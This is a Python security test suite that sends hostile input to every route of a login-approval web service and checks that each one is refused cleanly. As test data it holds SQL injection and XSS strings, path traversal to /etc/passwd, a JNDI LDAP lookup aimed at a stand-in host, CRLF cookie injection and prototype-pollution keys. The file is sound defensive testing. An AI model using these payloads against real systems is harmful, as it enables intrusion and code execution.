"""Hostile input on every route of PROTOCOL §1-6: the server answers each with the protocol's
JSON error shape and a status it documents, never a 5xx, and a body it cannot parse is a
422 `invalid_request` that names the field.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import httpx
import pytest
from sqlmodel import select
from starlette.routing import Match, Mount, Route, WebSocketRoute

from app.db.models import Device, User
from app.main import all_routes
from tests.fixtures.app import LiveServer
from tests.security.harness import EVIL, assert_error, assert_sane, person
from tests.security.routes import (
    BODY_ROUTES,
    BY_KEY,
    HTTP_ROUTES,
    ROUTES,
    RouteSpec,
    Target,
    drop_path,
    get_path,
    leaves,
    set_path,
    string_leaves,
    target,
)

pytestmark = pytest.mark.timeout(120)

# Strings a person would never type but an attacker will: NUL and other controls, terminal
# escapes, bidi overrides, astral and combining characters, injection classics, sheer size.
HOSTILE_STRINGS = [
    "",
    "a\x00b",
    "\x07\x1b[31mred\x1b[0m\r\n\t\x7f\x85",
    "\u202egnp.exe\u200b\ufeff",
    "💩e\u0301" * 8,
    "Ω" * 3000,
    "' OR '1'='1'; --<script>alert(1)</script>../../etc/passwd${jndi:ldap://e.example/a}%s%n",
]
LONE_SURROGATES = ["\ud800", "x\udfffy"]

MALFORMED = [
    b"",
    b"{",
    b'{"email": ',
    b"not json",
    b"{'single': 'quotes'}",
    b'{"a": 1,}',
    b"\xff\xfe{}",
    b'{"a": "\xc3\x28"}',
    b"[" * 5000 + b"]" * 5000,
    b'{"a": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    b"NaN",
]
NOT_OBJECTS = [b"[]", b"[{}]", b'"text"', b"123", b"1.5", b"null", b"true"]

WRONG_TYPES: dict[type, list[Any]] = {
    str: [123, 1.5, None, {}, ["a"]],
    bool: ["yes", 1, None, {}],
    int: ["60", 60.5, True, None],
    dict: ["x", 1, None, [{}]],
}

BIG = 70 * 1024


def by_key(specs: list[RouteSpec]) -> Any:
    return pytest.mark.parametrize("spec", specs, ids=[s.key for s in specs])


def _declared(route: Any) -> set[str]:
    if isinstance(route, Route):
        return {f"{m} {route.path}" for m in (route.methods or ()) if m != "HEAD"}
    if isinstance(route, WebSocketRoute):
        return {f"WS {route.path}"}
    if isinstance(route, Mount):
        return {f"MOUNT {route.path}"}
    raise AssertionError(f"unknown kind of route: {route!r}")


def _served(method: str, path: str) -> bool:
    """Whether some route takes `method` on this concrete path (e.g. DELETE
    /api/devices/enrollments is DELETE /api/devices/{device_id})."""
    scope = {"type": "http", "method": method, "path": path, "root_path": ""}
    return any(route.matches(scope)[0] is Match.FULL for route in all_routes())


def test_every_route_has_a_hostile_input_spec() -> None:
    served = set().union(*(_declared(r) for r in all_routes()))
    missing = served - set(BY_KEY)
    assert not missing, f"routes without hostile-input specs in tests/security/routes.py: {missing}"
    stale = set(BY_KEY) - served
    assert not stale, f"specs for routes that no longer exist: {stale}"


async def test_unknown_routes_answer_404_not_found(server: LiveServer) -> None:
    paths = [
        "/api/nope",
        "/api/login/a/b/c",
        "/.env",
        "/api/v2/approvals",
        "/admin",
        "/api/devices/me/approvals/extra",
        "/" + "a" * 4000,
        "/%00",
        "/api/%F0%9F%92%A9",
        "/api/login/..%2F..%2Fadmin",
        "/static/%2e%2e/%2e%2e/pyproject.toml",
        "/static/nope.js",
    ]
    async with httpx.AsyncClient(base_url=server.url) as client:
        for path in paths:
            for method in ("GET", "POST", "DELETE"):
                response = await client.request(method, path)
                if path.startswith("/static/") and method != "GET":
                    assert_error(response, 405, "method_not_allowed")
                else:
                    assert_error(response, 404, "not_found")


@by_key([s for s in ROUTES if s.method != "WS" and s.protocol == "tapprove"])
async def test_wrong_methods_answer_405_json(server: LiveServer, spec: RouteSpec) -> None:
    path = spec.path.replace("{", "").replace("}", "")
    if spec.method == "MOUNT":
        path = "/static/app.css"
    async with httpx.AsyncClient(base_url=server.url) as client:
        for method in ("PUT", "GET", "POST", "PATCH", "DELETE", "OPTIONS"):
            if _served(method, path):
                continue
            response = await client.request(method, path)
            body = assert_error(response, 405, "method_not_allowed")
            assert method in body["message"]


@by_key([s for s in ROUTES if s.method == "WS"])
async def test_websocket_routes_over_plain_http_are_404_json(
    server: LiveServer, spec: RouteSpec
) -> None:
    async with httpx.AsyncClient(base_url=server.url) as client:
        response = await client.get(spec.path.replace("{approval_id}", "0" * 32))
    assert_error(response, 404, "not_found")


async def _all(checks: list[Awaitable[None]], at_once: int = 4) -> None:
    limit = asyncio.Semaphore(at_once)

    async def one(check: Awaitable[None]) -> None:
        async with limit:
            await check

    await asyncio.gather(*(one(check) for check in checks))


@by_key(BODY_ROUTES)
async def test_bodies_that_do_not_parse_are_422_naming_the_field(
    server: LiveServer, spec: RouteSpec
) -> None:
    """Malformed JSON, non-objects, missing fields, wrong types and lone surrogates."""
    t = await target(server, spec)
    body = await t.body()

    async def refused(
        field: str,
        *,
        raw: bytes | None = None,
        obj: Any = None,
        headers: dict[str, str] | None = None,
    ) -> None:
        response = await t.send(content=raw, json_body=obj, headers=headers)
        error = assert_error(response, 422, "invalid_request")
        assert error["message"].startswith(field), (field, raw and raw[:40], obj, error)

    checks = [refused("body", raw=raw) for raw in MALFORMED + NOT_OBJECTS]
    checks.append(
        refused(
            "body",
            raw=b"email=a%40b.c&password=x",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
    )
    required = [name for name in body if name not in spec.optional]
    checks += [refused(name, obj=drop_path(body, (name,))) for name in required]
    if required:
        checks.append(refused("", obj={}))
    for path in leaves(body):
        for bad in WRONG_TYPES[type(get_path(body, path))]:
            if bad is None and ".".join(path) in spec.optional:
                continue
            checks.append(refused(path[0], obj=set_path(body, path, bad)))
    for path in string_leaves(body):
        for text in LONE_SURROGATES:
            raw = json.dumps(set_path(body, path, text)).encode()  # as \ud800 escapes
            checks.append(refused("body", raw=raw))
    await _all(checks)


INJECTED_USER = "0" * 32


def _shape(value: Any) -> Any:
    """A JSON value with ids, tokens and times blurred to their types; statuses and error
    codes kept, since those say what happened."""
    if isinstance(value, dict):
        return {
            k: v if k in ("status", "error") else _shape(v) for k, v in sorted(value.items())
        }
    if isinstance(value, list):
        return [_shape(v) for v in value]
    return type(value).__name__


async def _login_status(t: Target, approval_id: str) -> str:
    found: str = (await t.client.get(f"/api/login/{approval_id}")).json()["status"]
    return found


async def _owned_by_caller(t: Target, approval_id: str) -> None:
    """The approval is the caller's (its phone may read it) and still waits for an answer."""
    async with httpx.AsyncClient(base_url=t.server.url, headers=t.who.phone.auth) as phone:
        seen = await phone.get(f"/api/approvals/{approval_id}")
    assert seen.status_code == 200 and seen.json()["status"] == "pending", seen.text


async def _login_effect(t: Target, response: httpx.Response) -> None:
    assert response.json()["status"] == "approval_required"
    await _owned_by_caller(t, response.json()["approval_id"])
    assert await _login_status(t, response.json()["approval_id"]) == "pending"


async def _code_effect(t: Target, response: httpx.Response) -> None:
    assert await _login_status(t, t.url.split("/")[3]) == "pending"


async def _enroll_effect(t: Target, response: httpx.Response) -> None:
    device_id = response.json()["device_id"]
    listed = (await t.who.session.get("/api/devices")).json()["devices"]
    assert device_id in [d["id"] for d in listed], listed


async def _rp_effect(t: Target, response: httpx.Response) -> None:
    approval_id = response.json()["approval_id"]
    status = await t.client.get(f"/api/v1/approvals/{approval_id}", headers=t.headers)
    assert status.json()["status"] == "pending", status.text
    await _owned_by_caller(t, approval_id)


async def _decision_effect(t: Target, response: httpx.Response) -> None:
    # The body said "status": "approved"; the signed decision said deny.
    assert response.json() == {"status": "denied"}


async def _account_effect(t: Target, response: httpx.Response) -> None:
    assert response.json()["email"] == t.who.email and response.json()["sms_fallback"] is True


async def _device_update_effect(t: Target, response: httpx.Response) -> None:
    listed = (await t.who.session.get("/api/devices")).json()["devices"]
    assert {d["id"]: d["name"] for d in listed}[t.who.phone.device_id] == "Renamed", listed


# What each route changed, checked to be the caller's own and nothing more.
EFFECTS: dict[str, Callable[[Target, httpx.Response], Awaitable[None]]] = {
    "POST /api/login": _login_effect,
    "POST /api/login/{approval_id}/code": _code_effect,
    "POST /api/devices": _enroll_effect,
    "POST /api/v1/approvals": _rp_effect,
    "POST /api/approvals/{approval_id}/decision": _decision_effect,
    "PATCH /api/account": _account_effect,
    "PATCH /api/devices/me": _device_update_effect,
}
# Their one approval is decided by the first well-formed answer: no second answer to compare.
ANSWERED_ONCE = {"POST /api/approvals/{approval_id}/decision"}


@by_key(BODY_ROUTES)
async def test_extra_fields_are_ignored(server: LiveServer, spec: RouteSpec) -> None:
    """Fields the contract does not name (`is_admin`, `user_id`, `status`, prototype keys)
    are not refused, and change nothing: the answer is the one the same call gets without
    them, and what the call changed is the caller's own."""
    t = await target(server, spec)
    clean = None if spec.key in ANSWERED_ONCE else await t.send(json_body=await t.body())
    body = await t.body()
    body.update(
        {
            "is_admin": True,
            "user_id": INJECTED_USER,
            "__proto__": {"admin": True},
            "constructor": {"prototype": {}},
            "status": "approved",
        }
    )
    for path in leaves(body):
        if isinstance(get_path(body, path), dict) and path[0] not in ("__proto__", "constructor"):
            body = set_path(body, (*path, "injected"), "x")
    response = await t.send(json_body=body)
    assert_sane(response, {spec.ok})
    assert "injected" not in response.text and INJECTED_USER not in response.text
    assert "admin" not in response.text.lower(), response.text
    if clean is not None:
        assert clean.status_code == response.status_code, clean.text
        assert _shape(clean.json()) == _shape(response.json()), (clean.text, response.text)
    effect = EFFECTS.get(spec.key)
    if effect is not None:
        await effect(t, response)
    async with server.services.db() as db:
        assert await db.get(User, INJECTED_USER) is None
        stray = await db.exec(select(Device).where(Device.user_id == INJECTED_USER))
        assert stray.first() is None
    pending = server.services.approvals.keys.user(INJECTED_USER).pending
    assert not await server.services.redis.exists(pending)


@by_key(BODY_ROUTES)
async def test_hostile_strings_in_every_field(server: LiveServer, spec: RouteSpec) -> None:
    t = await target(server, spec)
    allowed = {spec.ok, 422, *spec.outcomes}

    async def attempt(path: tuple[str, ...], text: str) -> None:
        response = await t.send(json_body=set_path(await t.body(), path, text))
        assert_sane(response, allowed)
        if "\x00" in text:
            # Nothing stores a NUL (PostgreSQL text cannot), so it is an invalid field.
            assert response.status_code in {409, 410, 422}, (path, response.text)

    # Only the argon2-bound routes go in parallel; the others change state call by call.
    at_once = 4 if spec.path in ("/api/login", "/api/register") else 1
    await _all(
        [attempt(path, text) for path in string_leaves(await t.body()) for text in HOSTILE_STRINGS],
        at_once,
    )


async def _chunks(total: int, size: int = 8192) -> AsyncIterator[bytes]:
    yield b'{"pad": "'
    sent = 0
    while sent < total:
        yield b"x" * size
        sent += size
    yield b'"}'


@by_key([s for s in HTTP_ROUTES if s.method != "GET"])
async def test_huge_bodies_are_413(server: LiveServer, spec: RouteSpec) -> None:
    """Declared with Content-Length, and streamed chunked to the routes that read bodies."""
    t = await target(server, spec)
    declared = await t.send(content=json.dumps({"pad": "x" * BIG}).encode())
    assert_error(declared, 413, "too_large")
    if spec.body is None:
        return
    chunked = await t.client.request(
        spec.method,
        t.url,
        content=_chunks(BIG),
        headers={**t.headers, "Content-Type": "application/json"},
    )
    assert "content-length" not in chunked.request.headers
    assert_error(chunked, 413, "too_large")


async def test_the_body_limit_is_64_kib_exactly(server: LiveServer) -> None:
    async with httpx.AsyncClient(base_url=server.url) as client:
        for extra, status in ((0, 400), (1, 413)):
            head, tail = b'{"token": "' + b"A" * 43 + b'", "pad": "', b'"}'
            body = head + b"x" * (64 * 1024 - len(head) - len(tail) + extra) + tail
            assert len(body) == 64 * 1024 + extra
            declared = await client.post("/api/verify-email", content=body)
            assert declared.status_code == status, declared.text

            async def stream(data: bytes = body) -> AsyncIterator[bytes]:
                for start in range(0, len(data), 10_000):
                    yield data[start : start + 10_000]

            chunked = await client.post("/api/verify-email", content=stream())
            assert chunked.status_code == status, chunked.text


PATH_VALUES = [
    "%00",
    "a%00b",
    "x" * 3000,
    "%F0%9F%92%A9",
    "%ED%A0%80",
    "%C0%AF",
    "'%20OR%201=1--",
    "%2e%2e",
    "-1",
    "0" * 32,
    "%0D%0ASet-Cookie:%20a=b",
]


@by_key([s for s in HTTP_ROUTES if "{" in s.path])
async def test_hostile_path_parameters(server: LiveServer, spec: RouteSpec) -> None:
    t = await target(server, spec)
    name = spec.path[spec.path.index("{") : spec.path.index("}") + 1]
    for value in PATH_VALUES:
        url = spec.path.replace(name, value).replace("{", "").replace("}", "")
        response = await t.client.request(spec.method, url, headers=t.headers)
        assert_sane(response, {400, 401, 403, 404, 409, 410, 422})
        assert "a=b" not in response.headers.get("set-cookie", "")


async def test_the_verify_email_page_escapes_its_token(server: LiveServer) -> None:
    async with httpx.AsyncClient(base_url=server.url) as client:
        for token in [
            '"><script>alert(1)</script>',
            "'onmouseover='alert(1)",
            "\x00",
            "</textarea><img src=x onerror=alert(1)>",
        ]:
            page = await client.get("/verify-email", params={"token": token})
            assert page.status_code == 200
            assert page.headers["referrer-policy"] == "no-referrer"
            assert "<script>alert" not in page.text and "<img src=x" not in page.text
            assert "'onmouseover='" not in page.text


async def test_hostile_wait_values_for_relying_parties(server: LiveServer) -> None:
    t = await target(server, BY_KEY["GET /api/v1/approvals/{approval_id}"])
    for wait in ["-1", "31", "nan", "inf", "-inf", "1e309", "abc", "0x10", "\x00"]:
        response = await t.client.get(t.url, params={"wait": wait}, headers=t.headers)
        assert_error(response, 422, "invalid_request")
    for wait in ["", "0", "0.1"]:
        response = await t.client.get(t.url, params={"wait": wait}, headers=t.headers)
        assert response.status_code == 200, response.text


async def test_hostile_headers(server: LiveServer) -> None:
    who = await person(server, "headers")
    async with httpx.AsyncClient(base_url=server.url) as client:
        for auth in [
            "Bearer " + "A" * 10_000,
            "Bearer",
            "Basic YTpi",
            "Bearer tap_" + "A" * 300,
            "bearer\tx",
            who.phone.token,
        ]:
            for path in ("/api/devices/me/approvals", "/api/v1/approvals/" + "0" * 32):
                response = await client.get(path, headers={"Authorization": auth})
                assert_error(response, 401, "unauthorized")
        for cookie in ["x" * 5000, "", '"quoted"', "a;b=c"]:
            client.cookies.set("tapprove_session", cookie)
            assert_error(await client.get("/api/account"), 401, "unauthorized")
        client.cookies.clear()
        for agent in [b"A" * 8000, b"", "💩 Ω".encode(), b"\xff\xfe"]:
            response = await client.post(
                "/api/login",
                json={"email": who.email, "password": "wrong password"},
                headers={"User-Agent": agent},
            )
            assert_error(response, {401, 429})
        for origin in [
            "null",
            EVIL,
            "http://127.0.0.1",
            server.origin + ".evil.example",
            server.origin.replace("http", "https"),
            "x" * 3000,
        ]:
            response = await client.post(
                "/api/login",
                json={"email": who.email, "password": "wrong password"},
                headers={"Origin": origin},
            )
            assert_error(response, 403, "csrf")


async def test_enrollment_refuses_keys_that_are_not_p256_public_points(
    server: LiveServer,
) -> None:
    spec = BY_KEY["POST /api/devices"]
    t = await target(server, spec)
    body = await t.body()
    jwk = body["public_key"]
    for bad in [
        {**jwk, "d": jwk["x"]},  # a private key must never be sent
        {**jwk, "y": jwk["x"]},  # not on the curve
        {**jwk, "crv": "P-384"},
        {**jwk, "kty": "RSA"},
        {**jwk, "alg": "HS256"},
        {**jwk, "x": jwk["x"] + "="},  # padded
        {**jwk, "x": "A" * 43, "y": "A" * 43},  # the point at infinity's stand-in
        {**jwk, "x": "_" * 43},  # larger than the field prime
        {"kty": "oct", "k": "c2VjcmV0"},
    ]:
        response = await t.send(json_body={**await t.body(), "public_key": bad})
        error = assert_error(response, 422, "invalid_request")
        assert error["message"].startswith("public_key"), error
